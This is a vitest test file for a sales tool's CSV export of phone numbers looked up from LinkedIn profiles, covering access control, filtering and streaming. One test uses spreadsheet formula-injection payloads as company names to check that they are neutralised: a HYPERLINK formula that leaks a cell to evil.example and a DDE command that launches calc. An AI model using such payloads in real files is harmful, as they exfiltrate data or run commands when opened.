import Papa from "papaparse";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { SessionUser } from "@/lib/auth/roles";
import { neutraliseFormula } from "@/lib/csv/export-csv";
import { AppError } from "@/lib/errors";
import { batchFilterQuery, parseBatchFilter, type BatchFilter } from "@/lib/reveals/batch-filter";
import { exportBatchCsv } from "@/lib/reveals/export-batch";
import { getBatchView } from "@/lib/reveals/get-batch";
import { importRowsRequestSchema, revealImportedRows, type ImportRowsRequest } from "@/lib/reveals/import-rows";
import { getSetting } from "@/lib/settings/settings";
import { providerRowsOf, revealRow } from "../support/inspect";
import { entryFor, profileUrl, revealIdsOf, revealNow, submit } from "../support/reveal-flow";
import { startTestApp, type TestApp } from "../support/test-app";

let app: TestApp;

beforeEach(async () => {
  app = await startTestApp();
});
afterEach(async () => {
  await app.close();
});

const PERSON_ID = "2751275603503088159"; // above 2^53: only a string holds it
const importAs = (user: SessionUser, request: ImportRowsRequest) => revealImportedRows(app.db, user, importRowsRequestSchema.parse(request));
/** The streamed export read whole; the BOM is kept (Response.text() would drop it). */
async function exportedCsv(batchId: string, viewer: SessionUser, filter?: BatchFilter): Promise<{ fileName: string; csv: string }> {
  const { fileName, body } = exportBatchCsv(app.db, batchId, viewer, "spreadsheet", filter);
  const bytes = new Uint8Array(await new Response(body).arrayBuffer());
  return { fileName, csv: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}
function thrown(run: () => unknown): unknown {
  try {
    run();
  } catch (error) {
    return error;
  }
  throw new Error("expected it to throw");
}

describe("exportBatchCsv", () => {
  it("writes one safe row per person with the best number, every provider's status and the credits", async () => {
    const { db } = app;
    const [teammate, sdr] = [app.createUser("sdr"), app.createUser("sdr")];
    const [found, missing, known] = [profileUrl("export-found", { found: true }), profileUrl("export-missing", { found: false }), profileUrl("export-known", { found: true })];
    const earlier = submit(db, teammate, [entryFor(known)]);
    await revealNow(app, earlier.revealIds);

    const companies = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
    const created = await importAs(sdr, {
      fileName: "export.csv",
      rows: [
        { row: 2, linkedinUrl: found, company: companies[0] },
        { row: 3, linkedinUrl: missing, company: companies[1] },
        { row: 4, linkedinUrl: known, company: companies[2] },
        { row: 5, personId: PERSON_ID, company: companies[3] },
      ],
    });
    expect(created).toMatchObject({ queued: 3, cached: 1 });
    const ids = revealIdsOf(db, created.batchId);
    await revealNow(app, ids);

    const { csv, fileName } = await exportedCsv(created.batchId, sdr);
    // Named by the uploaded file, and by the random end of the id (its start is the time, alike for lists made together).
    expect(fileName).toMatch(new RegExp(`^reveal-desk-export-\\d{4}-\\d{2}-\\d{2}-${created.batchId.slice(-8)}\\.csv$`));
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const [header, ...rows] = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], ...string[][]];
    const { providers } = getBatchView(db, created.batchId, sdr);
    expect(header).toEqual([
      "Row in file", "First name", "Last name", "Company", "LinkedIn URL", "personId", "State",
      "Best number (E.164)", "Best number type", "Best number provider", "All numbers",
      ...providers.map((provider) => `${provider} status`),
      "Credits charged (estimate)", "Revealed by", "Note",
    ]);
    expect(providers.length).toBeGreaterThan(1);
    expect(rows).toHaveLength(4);
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    // Each person names the file's line it came from, to be matched back to the file's other columns.
    expect(rows.map((row) => cell(row, "Row in file"))).toEqual(["2", "3", "4", "5"]);

    // Cells a spreadsheet would run as formulas are defused; nothing else starts with = + - @ either.
    expect(rows.map((row) => cell(row, "Company"))).toEqual(companies.map(neutraliseFormula));
    expect(rows.map((row) => cell(row, "Company"))).toEqual(companies.map((company) => `'${company}`));
    for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const charges = [ids[0]!, earlier.revealIds[0]!].map((id) => providerRowsOf(db, id).find((row) => row.charged)!);
    for (const [index, charged] of [[0, charges[0]!], [2, charges[1]!]] as const) {
      const best = charged.numbers.find((number) => number.type === "mobile") ?? charged.numbers[0]!;
      expect(best.e164).toMatch(/^\+[1-9]\d{7,14}$/);
      expect(cell(rows[index]!, "Best number (E.164)")).toBe(neutraliseFormula(best.e164!));
      expect(cell(rows[index]!, "Best number type")).toBe(best.type);
      expect(cell(rows[index]!, "Best number provider")).toBe(charged.provider);
      expect(cell(rows[index]!, "All numbers")).toContain(`${best.type} ${best.e164} (${charged.provider})`);
      expect(cell(rows[index]!, `${charged.provider} status`)).toBe("found");
    }
    const price = getSetting(db, "providerPrices")[charges[0]!.provider];
    expect(rows[0]).toEqual(expect.arrayContaining(["found", String(price), sdr.name]));
    expect(cell(rows[0]!, "LinkedIn URL")).toBe(found);
    expect(cell(rows[1]!, "State")).toBe("not found");
    expect(cell(rows[1]!, "Best number (E.164)")).toBe("");
    expect(cell(rows[1]!, "Credits charged (estimate)")).toBe("0");
    expect(providers.map((provider) => cell(rows[1]!, `${provider} status`))).toEqual(providers.map(() => "notFound")); // every provider was asked
    const answeredOn = revealRow(db, earlier.revealIds[0]!).completedAt!.toISOString().slice(0, 10);
    expect(cell(rows[2]!, "State")).toBe("from ledger (free)");
    expect(cell(rows[2]!, "Credits charged (estimate)")).toBe("0");
    expect(cell(rows[2]!, "Revealed by")).toBe(`${teammate.name} (${answeredOn})`);
    // 19 digits: Excel would round it to 2.75128E+18, so it is kept text with the guard's quote, which the upload reads back.
    expect(cell(rows[3]!, "personId")).toBe(`'${PERSON_ID}`);
    const reimported = await importAs(sdr, { rows: [{ row: 2, personId: cell(rows[3]!, "personId")! }] });
    expect(getBatchView(db, reimported.batchId, sdr).rows.map((row) => row.personId)).toEqual([PERSON_ID]);
    expect(cell(rows[3]!, "LinkedIn URL")).toBe("");
  });

  it("writes the best number plain E.164 for a CRM import, and guards every other cell as before", async () => {
    const sdr = app.createUser("sdr");
    const found = profileUrl("export-crm", { found: true });
    const created = await importAs(sdr, { fileName: "crm.csv", rows: [{ row: 2, linkedinUrl: found, company: "=1+1" }] });
    await revealNow(app, revealIdsOf(app.db, created.batchId));

    const read = async (target: "spreadsheet" | "crm") => {
      const { fileName, body } = exportBatchCsv(app.db, created.batchId, sdr, target);
      const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(new Uint8Array(await new Response(body).arrayBuffer()));
      const [header, row] = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], string[]];
      return { fileName, cell: (name: string) => row[header.indexOf(name)] };
    };
    const [sheet, crm] = [await read("spreadsheet"), await read("crm")];
    expect(crm.fileName).toBe(sheet.fileName.replace(/\.csv$/, "-for-crm.csv"));
    const best = sheet.cell("Best number (E.164)")!;
    expect(best).toMatch(/^'\+[1-9]\d{7,14}$/);
    expect(crm.cell("Best number (E.164)")).toBe(best.slice(1));
    for (const name of ["Company", "All numbers"]) expect(crm.cell(name)).toBe(sheet.cell(name));
    // An importer takes the personId as written: no quote in the CRM file.
    expect(sheet.cell("personId")).toMatch(/^'\d{16,}$/);
    expect(crm.cell("personId")).toBe(sheet.cell("personId")!.slice(1));
    // The list of numbers starts with a type, not "+": no guard's quote to land in a CRM field.
    expect(crm.cell("All numbers")).toMatch(/^[a-z]+ \+\d/);
    expect(crm.cell("Company")).toBe("'=1+1");
  });

  it("exports a batch only for its owner and managers: another SDR gets not_found", async () => {
    const owner = app.createUser("sdr");
    const { batchId } = await importAs(owner, { rows: [{ row: 2, linkedinUrl: "https://www.linkedin.com/in/export-private/", company: "Private" }] });
    const refused = thrown(() => exportBatchCsv(app.db, batchId, app.createUser("sdr")));
    expect(refused).toBeInstanceOf(AppError);
    expect(refused).toMatchObject({ code: "not_found" });
    const mine = await exportedCsv(batchId, owner);
    expect(await exportedCsv(batchId, app.createUser("manager"))).toEqual(mine);
    expect(await exportedCsv(batchId, app.createUser("admin"))).toEqual(mine);
    expect(mine.csv).toContain("Private");
  });

  it("exports only the rows the page's state chip and search show, says so in its name, and refuses a filter it does not know", async () => {
    const sdr = app.createUser("sdr");
    const people = { Ada: profileUrl("filtered-found", { found: true }), Bea: profileUrl("filtered-missing", { found: false }), Cy: profileUrl("filtered-other", { found: true }) };
    const created = await importAs(sdr, {
      fileName: "filtered.csv",
      rows: [
        { row: 2, linkedinUrl: people.Ada, company: "Acme" },
        { row: 3, linkedinUrl: people.Bea, company: "Acme" },
        { row: 4, linkedinUrl: people.Cy, company: "Globex" },
      ],
    });
    const nameOf = (url: string | undefined) => Object.entries(people).find(([, profile]) => profile === url)?.[0];
    await revealNow(app, revealIdsOf(app.db, created.batchId));
    const exported = async (query: string) => {
      const filter = parseBatchFilter(new URLSearchParams(query));
      const { fileName, csv } = await exportedCsv(created.batchId, sdr, filter);
      const [header, ...rows] = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], ...string[][]];
      return { fileName, names: rows.map((row) => nameOf(row[header.indexOf("LinkedIn URL")])), query: batchFilterQuery(filter) };
    };

    const whole = await exported("");
    expect(whole.names).toEqual(["Ada", "Bea", "Cy"]);
    expect(whole.query).toBe("");
    const foundOnly = await exported("state=found");
    expect(foundOnly.names).toEqual(["Ada", "Cy"]);
    expect(foundOnly.fileName).toBe(whole.fileName.replace(/\.csv$/, "-found.csv"));
    const acme = await exported("q=%20ACME%20");
    expect(acme.names).toEqual(["Ada", "Bea"]);
    expect(acme.fileName).toBe(whole.fileName.replace(/\.csv$/, "-matching.csv"));
    expect(acme.query).toBe("?q=ACME");
    const both = await exported("state=not_found&q=acme");
    expect(both.names).toEqual(["Bea"]);
    expect(both.fileName).toBe(whole.fileName.replace(/\.csv$/, "-not-found-matching.csv"));
    expect((await exported("state=failed")).names).toEqual([]);

    for (const query of ["state=everything", "state=toString", `q=${"x".repeat(201)}`]) {
      const refused = thrown(() => parseBatchFilter(new URLSearchParams(query)));
      expect(refused).toBeInstanceOf(AppError);
      expect(refused).toMatchObject({ code: "bad_request", message: expect.stringMatching(/^Export (search "q" is at most 200|"state" is one of all, pending, held, found)/) });
    }
  });

  it("finds a search's few rows across every page of a big batch, past a page with none", async () => {
    const sdr = app.createUser("sdr");
    // Pages of 2,000: the second (rows 2,000–3,999) has no match, and the export must read on past it.
    const needles = new Set([999, 1_999, 4_499]);
    const rows = Array.from({ length: 4_500 }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/paged-${i}/`, company: needles.has(i) ? "Needle Inc" : "Hay Ltd" }));
    const { batchId } = await importAs(sdr, { rows });
    const { csv } = await exportedCsv(batchId, sdr, { state: "all", search: "needle" });
    const [header, ...found] = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], ...string[][]];
    expect(found.map((row) => row[header.indexOf("LinkedIn URL")])).toEqual([...needles].map((i) => `https://www.linkedin.com/in/paged-${i}/`));
  });

  it("streams a big batch a page at a time: every person once, in file order, none of the batches beside it", async () => {
    const sdr = app.createUser("sdr");
    const rowsOf = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/${prefix}-${i}/` }));
    await importAs(sdr, { rows: rowsOf("stream-before", 3) });
    const { batchId } = await importAs(sdr, { rows: rowsOf("stream", 4_500) });
    await importAs(sdr, { rows: rowsOf("stream-after", 3) });

    const reader = exportBatchCsv(app.db, batchId, sdr).body.getReader();
    const chunks: Uint8Array[] = [];
    for (let read = await reader.read(); !read.done; read = await reader.read()) chunks.push(read.value);
    expect(chunks.length).toBeGreaterThanOrEqual(3);
    const csv = new TextDecoder().decode(Buffer.concat(chunks));
    const [header, ...rows] = Papa.parse<string[]>(csv, { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], ...string[][]];
    const urls = rows.map((row) => row[header.indexOf("LinkedIn URL")]);
    expect(urls).toEqual(rowsOf("stream", 4_500).map((row) => row.linkedinUrl));
  });
});
